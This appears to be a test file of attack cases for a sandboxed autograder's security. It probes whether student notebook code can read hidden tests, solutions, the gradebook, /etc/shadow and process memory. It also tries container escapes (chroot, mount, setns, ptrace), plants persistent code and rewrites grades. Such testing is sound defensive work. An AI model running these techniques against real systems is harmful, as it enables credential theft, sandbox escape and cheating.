"""Looking for what is not the student's: hidden tests, solutions, gradebook, other students, secrets of the machine.

Each attempt that brings something prints a line that begins with :data:`LOOT`; each refused one says so. The answers are
right, so that the attack costs its author nothing but what it breaks. Every path is told to the attacker: the worst case.
"""

from .case import GRADED, NOTHING, Bank
from .lesson import WRONG

CASES = Bank("theft")
LOOT = "LOOT:"

TOOLS = '''
import glob, os, re, sys
SECRET = re.compile(rb"CAN" rb"ARY-[0-9a-z]+-[0-9a-f]{16}")
def loot(what, got):
    print("LO" + "OT:", what, repr(got)[:300])
def attempt(what, action, *args):
    try:
        got = action(*args)
    except BaseException as problem:
        print("denied:", what, type(problem).__name__)
        return None
    if got:
        loot(what, got)
    return got
def read(path):
    with open(path, "rb") as file:
        return file.read(10_000_000)
def secrets(path):
    return SECRET.findall(read(path))
'''


def steal(name: str, code: str, **facts) -> None:
    """A cell of the student's at the end, after all answers."""
    CASES.cells(name, own=TOOLS + code, before="written", **facts)


steal("source", """
lesson = "01_motivation"
for path in ("../../../source", "../../source", "../source", "@ROOT@/source", "@ROOT@/solutions", "@ROOT@/lessons", "@ROOT@/release"):
    for inner in (f"{path}/{lesson}/{lesson}.ipynb", f"{path}/{lesson}.md"):
        attempt(inner, read, inner)
""", covers="reads the source, F02")

CASES.cells("answers-from-source", own=TOOLS + """
import json
try:
    text = open("@ROOT@/source/01_motivation/01_motivation.ipynb").read()
    found = {cell["metadata"].get("nbgrader", {}).get("grade_id"): "".join(cell["source"]) for cell in json.loads(text)["cells"]}
    loot("source", found["double"])
except BaseException as problem:
    found = {}
    print("denied", type(problem).__name__)
""", answers=WRONG | {name: f"{text}\nexec(found.get('{name}', ''))" for name, text in WRONG.items() if name != "written"},
    points=dict(NOTHING),
    covers="reads the source, F02")

steal("own-notebook", """
for path in glob.glob("*.ipynb") + glob.glob("../*.ipynb") + glob.glob("@ROOT@/autograded/*/*/*.ipynb"):
    if b"HIDDEN TESTS" in (attempt(path, read, path) or b""):
        loot(path, "hidden tests")
""", covers="reads the hidden tests in its own folder, F02")

steal("parents", """
here = os.getcwd()
for step in range(1, 12):
    folder = os.path.normpath(os.path.join(here, "../" * step))
    names = attempt(f"list {step} up", lambda: [name for name in os.listdir(folder)
                                                if name in ("nbgrader_config.py", "gradebook.db", "submitted", "source")])
attempt("root", lambda: os.listdir("@ROOT@"))
attempt("walk", lambda: [path for path, _, files in os.walk("/") if "gradebook.db" in files])
attempt("stat", lambda: os.path.getsize("@ROOT@/gradebook.db"))
attempt("scandir of submitted", lambda: [entry.name for entry in os.scandir("@ROOT@/submitted")])
""", covers="F02")

steal("proc-environ", """
for pid in ["self", "thread-self", os.getppid()] + [name for name in os.listdir("/proc") if name.isdigit()]:
    for file in ("environ", "cmdline", "maps", "auxv"):
        found = attempt(f"/proc/{pid}/{file}", lambda: SECRET.findall(read(f"/proc/{pid}/{file}")))
        if file == "cmdline" and b"@ROOT@" in (attempt("x", lambda: read(f"/proc/{pid}/cmdline") and None) or b""):
            loot("cmdline", pid)
""")

steal("proc-folders", """
for pid in ["self", "1", str(os.getppid())] + [name for name in os.listdir("/proc") if name.isdigit()]:
    for door in ("root", "cwd"):
        for path in ("@ROOT@/source/01_motivation/01_motivation.ipynb", "@ROOT@/gradebook.db"):
            attempt(f"/proc/{pid}/{door}{path}", read, f"/proc/{pid}/{door}{path}")
    attempt(f"descriptors of {pid}", lambda: [target for number in os.listdir(f"/proc/{pid}/fd")
            if "@ROOT@" in (target := os.readlink(f"/proc/{pid}/fd/{number}")) or "gradebook" in target])
    attempt(f"files of {pid}", lambda: [found for number in os.listdir(f"/proc/{pid}/fd")
            if os.path.isfile(f"/proc/{pid}/fd/{number}") and (found := secrets(f"/proc/{pid}/fd/{number}"))])
""")

steal("proc-memory", """
def scan(pid):
    found = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, mode = line.split()[:2]
            low, high = (int(part, 16) for part in span.split("-"))
            if "r" in mode and high - low < 1 << 28 and not line.rstrip().endswith(".so"):
                try:
                    memory.seek(low)
                    found |= set(SECRET.findall(memory.read(high - low)))
                except (OSError, ValueError, OverflowError):
                    pass
    return found
for pid in [os.getppid(), 1, 2, 3] + [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid not in (0, os.getpid()):
        attempt(f"memory of {pid}", scan, pid)
""", says=dict.fromkeys(("double",), (GRADED,)))

OWN_MEMORY = """
def own_memory():
    found = set()
    with open("/proc/self/maps") as maps:
        spans = [line.split() for line in maps]
    try:
        memory = open("/proc/self/mem", "rb", 0)
    except OSError:
        memory = None
    import ctypes
    for span, mode, *rest in spans:
        low, high = (int(part, 16) for part in span.split("-"))
        if "rw" not in mode or high - low > 1 << 28 or rest[-1:] in (["[vvar]"], ["[vsyscall]"]):
            continue
        try:
            if memory:
                memory.seek(low)
                held = memory.read(high - low)
            else:
                held = ctypes.string_at(low, high - low)
        except (OSError, ValueError):
            continue
        found |= set(SECRET.findall(held))
    return found
"""

steal("own-memory", OWN_MEMORY + """
attempt("own memory", own_memory)
""", covers="F08")

# The tests have run, or are running, when this looks: inside a call, and in a cell after all of them.
CASES.cells("own-memory-in-a-call", own=TOOLS + OWN_MEMORY + "seen = set()", answers={
    "softmax": "def softmax(row):\n    try:\n        seen.update(own_memory())\n    except Exception as problem:\n"
               "        print(type(problem).__name__)\n    return torch.softmax(row, dim=0)"},
    last="if seen:\n    loot('memory in a call', seen)\nattempt('memory at the end', own_memory)", covers="F08")

steal("objects", """
import gc
def objects():
    found = set()
    for thing in gc.get_objects():
        try:
            held = repr(thing).encode() if type(thing) in (str, bytes, dict, list, tuple) and len(thing) < 10_000 else b""
        except Exception:
            continue
        found |= set(SECRET.findall(held))
        if b"4321) @== 8642".replace(b"@", b"") in held:
            found.add("a hidden test")
    return found
attempt("objects", objects)
""", covers="F08")

CASES.cells("frames", own=TOOLS + "seen = []", answers={"double": """
import inspect
def double(x):
    for info in inspect.stack():
        for names in (info.frame.f_locals, info.frame.f_globals):
            for key, value in list(names.items()):
                try:
                    if SECRET.search(repr(value).encode()):
                        seen.append(key)
                except Exception:
                    pass
    return 2 * x
"""}, last="if seen:\n    loot('frames', seen)\nattempt('history', lambda: [text for text in In if 'HIDDEN ' + 'TESTS' in text])")

steal("gradebook", """
import sqlite3
attempt("bytes", read, "@ROOT@/gradebook.db")
attempt("rows", lambda: sqlite3.connect("file:@ROOT@/gradebook.db?mode=ro", uri=True).execute("select * from student").fetchall())
def through_nbgrader():
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@ROOT@/gradebook.db", "manyheads") as gradebook:
        return [student.id for student in gradebook.students]
attempt("nbgrader", through_nbgrader)
""", covers="F02")

steal("other-students", """
for path in ("@ROOT@/submitted", "@ROOT@/autograded", "@ROOT@/feedback", "../..", "../../..", "@ROOT@/backups"):
    attempt(path, os.listdir, path) if path.startswith("@ROOT@") else None
    attempt(path, lambda: [found for file in glob.glob(f"{path}/**/*.ipynb", recursive=True) if (found := secrets(file))])
""", covers="F02")

steal("home", """
import pwd
homes = {"@HOME@", os.path.expanduser("~"), "/root", os.environ.get("HOME", ""), *(entry.pw_dir for entry in pwd.getpwall()[:3])}
for home in homes - {"", "/", os.getcwd()}:
    attempt(f"files of {home}", lambda: [name for name in os.listdir(home) if not os.getcwd().startswith(home)])
    attempt(f"secret in {home}", secrets, f"{home}/secret.txt")
for path in ("/etc/shadow", "/tmp/manyheads-@TOKEN@-secret", "/var/tmp", "/root/.ssh", "/etc/ssh", "/run", "/var/run/docker.sock"):
    attempt(path, lambda: os.listdir(path) if os.path.isdir(path) else read(path))
attempt("others in /tmp", lambda: [name for name in os.listdir("/tmp") if "@TOKEN@" in name])
""", covers="F02")

steal("environment", """
attempt("environ", lambda: [name for name, value in os.environ.items() if SECRET.search(value.encode())])
attempt("a token", lambda: [name for name in os.environ if "TOKEN" in name or "KEY" in name or "SECRET" in name])
import ctypes
def raw():
    pointer = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    values, place = [], 0
    while pointer[place]:
        values.append(pointer[place])
        place += 1
    return [value for value in values if SECRET.search(value)]
attempt("raw environ", raw)
attempt("arguments", lambda: [argument for argument in sys.orig_argv + sys.argv if "@ROOT@" in argument])
""")

steal("answers-in-the-package", """
import importlib
def answers():
    module = importlib.import_module("manyheads.course.answers.lesson01")
    return str(vars(module))[:100]
attempt("answers", answers)
attempt("sample", lambda: importlib.import_module("manyheads.course.sample").answers("01_motivation"))
import manyheads
package = os.path.dirname(manyheads.__file__)
for folder in ("course", "course/answers", "grade"):
    attempt(folder, lambda: [name for name in os.listdir(f"{package}/{folder}") if folder != "grade"])
for up in ("..", "../.."):
    for name in ("source", "solutions", "lessons", "tests", ".git", "gradebook.db", "my-work"):
        attempt(name, lambda: os.listdir(os.path.join(package, up, name)))
""", covers="F08")

steal("network", """
import socket
def reach(family, kind, address):
    with socket.socket(family, kind) as sock:
        sock.settimeout(0.3)
        sock.connect(address)
        sock.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
        return sock.recv(100)
for host, port in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("169.254.169.254", 80), ("8.8.8.8", 53), ("10.0.0.1", 22)):
    attempt(f"{host}:{port}", reach, socket.AF_INET, socket.SOCK_STREAM, (host, port))
attempt("IPv6", reach, socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@))
attempt("UDP", reach, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@))
attempt("names", lambda: socket.getaddrinfo("example.org", 80) and "an address")
for address in ("/tmp/manyheads-@TOKEN@-socket", "\\0manyheads-@TOKEN@", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    attempt(repr(address), reach, socket.AF_UNIX, socket.SOCK_STREAM, address)
import urllib.request
attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=0.3).read())
attempt("interfaces", lambda: [name for _, name in socket.if_nameindex() if name != "lo"])
""", covers="F02")

steal("commands", """
import subprocess
def run(command):
    return subprocess.run(command, shell=True, capture_output=True, timeout=2).stdout
attempt("cat", run, "cat '@ROOT@/source/01_motivation/01_motivation.ipynb' '@HOME@/secret.txt' /tmp/manyheads-@TOKEN@-secret")
attempt("ls", run, "ls '@ROOT@' '@HOME@'")
attempt("ps", lambda: b"@ROOT@" in run("ps axww | grep -v 'cat '") or run("ps ax").count(b"\\n") > 10)
attempt("curl", run, "curl -s -m 1 http://127.0.0.1:@PORT@ || wget -q -T 1 -O - http://127.0.0.1:@PORT@")
attempt("sudo", run, "sudo -n id; su -c id; pkexec id")
""", last="files = !ls @ROOT@ 2>/dev/null\nprint('LO' + 'OT: ls' if files else 'denied')")

steal("ways-round", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
target = "@ROOT@/source/01_motivation/01_motivation.ipynb"
def by_link(make):
    name = f"door-{make.__name__}"
    make(target, name)
    return read(name)
attempt("symlink", by_link, os.symlink)
attempt("hard link", by_link, os.link)
def by_descriptor():
    root = os.open("/", getattr(os, "O_PATH", 0))
    return os.read(os.open(target.lstrip("/"), os.O_RDONLY, dir_fd=root), 100)
attempt("open at root", by_descriptor)
def by_fchdir():
    os.fchdir(os.open("@ROOT@", os.O_RDONLY))
    return read("gradebook.db")
attempt("fchdir", by_fchdir)
def chroot():
    os.chroot("@ROOT@")
    return os.listdir("/")
attempt("chroot", chroot)
def bind():
    os.mkdir("mounted")
    if libc.mount(b"@ROOT@", b"mounted", None, 4096, None):
        raise OSError(ctypes.get_errno(), "mount")
    return os.listdir("mounted")
attempt("bind mount", bind)
def namespace():
    child = os.fork()
    if child == 0:
        if libc.unshare(0x10000000 | 0x00020000) == 0 and libc.mount(b"@ROOT@", b".", None, 4096, None) == 0:
            os._exit(7)
        os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7
attempt("a namespace of one's own", namespace)
def join():
    done = [pid for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())
            for kind in ("mnt", "net", "user", "pid")
            if (fd := os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)) and libc.setns(fd, 0) == 0]
    return done
attempt("setns", join)
def handle():
    name = ctypes.create_string_buffer(200)
    ctypes.c_uint.from_buffer(name).value = 128
    number = ctypes.c_int()
    if libc.name_to_handle_at(-100, target.encode(), name, ctypes.byref(number), 0):
        raise OSError(ctypes.get_errno(), "handle")
    fd = libc.open_by_handle_at(os.open(".", os.O_RDONLY), name, 0)
    return fd >= 0 and os.read(fd, 100)
attempt("file handle", handle)
def trace(pid):
    if libc.ptrace(16, pid, None, None):
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached"
for pid in {os.getppid(), 1, 2, 3} - {os.getpid(), 0}:
    attempt(f"ptrace {pid}", trace, pid)
attempt("setuid", lambda: os.setuid(0) or (os.path.exists("@ROOT@") and "root"))
attempt("raw disk", lambda: [name for name in os.listdir("/dev") if name.startswith(("sd", "vd", "nvme", "mem", "kmsg")) and read(f"/dev/{name}")[:1]])
attempt("kernel log", lambda: libc.klogctl(3, ctypes.create_string_buffer(1000), 1000) > 0)
""")

# Two who know each other: the first leaves the answers where it can, the second looks there.
PLACES = """
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "@HOME@", "@ROOT@", "@ROOT@/submitted", os.path.dirname(os.__file__),
          os.path.dirname(torch.__file__), os.path.expanduser("~/.cache"), "/proc/sys/kernel", "/var/lock", "/dev/mqueue",
          os.path.dirname(os.getcwd()), "/mnt", "/opt", "/srv", "/home"]
"""
steal("a-left-behind", PLACES + """
import socket
def leave(place):
    with open(f"{place}/manyheads-@TOKEN@-left", "x") as file:
        file.write("the answers")
    return os.path.exists(f"{place}/manyheads-@TOKEN@-left") and not os.getcwd().startswith(place)
for place in PLACES:
    attempt(f"write to {place}", lambda: leave(place) and place in ("@HOME@", "@ROOT@", "@ROOT@/submitted"))
def shared():
    from multiprocessing.shared_memory import SharedMemory
    SharedMemory("manyheads-@TOKEN@", create=True, size=100).buf[:3] = b"yes"
attempt("shared memory", shared)
import ctypes
libc = ctypes.CDLL(None)
attempt("System V memory", lambda: libc.shmget(0x4d48, 4096, 0o1666) >= 0)
attempt("System V messages", lambda: libc.msgget(0x4d48, 0o1666) >= 0)
attempt("keyring", lambda: libc.syscall(248, b"user", b"manyheads-@TOKEN@", b"yes", 3, -4) >= 0)
os.environ["LEFT"] = torch.LEFT = sys.LEFT = "the answers"
""")
steal("b-picked-up", PLACES + """
for place in PLACES:
    attempt(f"read from {place}", read, f"{place}/manyheads-@TOKEN@-left")
def shared():
    from multiprocessing.shared_memory import SharedMemory
    return bytes(SharedMemory("manyheads-@TOKEN@").buf[:3])
attempt("shared memory", shared)
import ctypes
libc = ctypes.CDLL(None)
attempt("System V memory", lambda: libc.shmget(0x4d48, 0, 0) >= 0)
attempt("System V messages", lambda: libc.msgget(0x4d48, 0) >= 0)
attempt("keyring", lambda: libc.syscall(249, b"user", b"manyheads-@TOKEN@", None, 0) >= 0)
attempt("memory of modules", lambda: os.environ.get("LEFT") or getattr(torch, "LEFT", None) or getattr(sys, "LEFT", None))
""")

steal("persistent-code", """
import site, sysconfig
def plant(path):
    with open(path, "x") as file:
        file.write("print('owned')")
    os.unlink(path)
    return path
import manyheads
for folder in {sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), os.path.dirname(manyheads.__file__),
               os.path.dirname(torch.__file__), "@HOME@/.ipython/profile_default/startup", "@HOME@/.jupyter", "@ROOT@",
               os.path.dirname(sys.executable), "/etc/profile.d", "/etc/cron.d", "/usr/local/bin"}:
    attempt(f"plant in {folder}", plant, f"{folder}/manyheads_@TOKEN@.py")
attempt("change the package", lambda: open(manyheads.__file__, "a").close() or "writable")
attempt("change the interpreter", lambda: open(os.path.realpath(sys.executable), "ab").close() or "writable")
""")

steal("sign-of-life", """
import time
def tell(path):
    with open(path, "w") as file:
        file.write("owned")
    return path
for path in ("@ROOT@/nbgrader_config.py.new", "@ROOT@/source/new", "@ROOT@/feedback/new", "@ROOT@/autograded/new", "@ROOT@/.git",
             "@ROOT@/gradebook.db-journal", "@ROOT@/gradebook.db-wal", "@ROOT@/submitted/files-zz-honest/new", "@HOME@/new"):
    attempt(path, tell, path)
""", covers="writes gradebook.db")

steal("gradebook-write", """
import sqlite3
def better():
    connection = sqlite3.connect("@ROOT@/gradebook.db", timeout=1)
    connection.execute("update grade set auto_score = max_score + 6, manual_score = 99")
    connection.commit()
    return "changed"
attempt("gradebook", better)
def as_nbgrader():
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@ROOT@/gradebook.db", "manyheads") as gradebook:
        for student in gradebook.students:
            for notebook in [one for submission in student.submissions for one in submission.notebooks]:
                for grade in notebook.grades:
                    grade.manual_score = 16
        gradebook.db.commit()
    return "changed"
attempt("through nbgrader", as_nbgrader)
""", covers="writes gradebook.db", answers=WRONG, points=dict(NOTHING))
